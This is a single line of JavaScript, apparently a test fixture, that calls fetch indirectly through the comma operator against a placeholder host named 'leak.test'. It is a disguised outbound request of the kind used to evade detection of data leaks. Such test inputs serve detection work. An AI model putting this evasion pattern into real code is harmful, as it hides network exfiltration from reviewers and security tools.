(0, fetch)("https://js-fetch-comma.leak.test/")
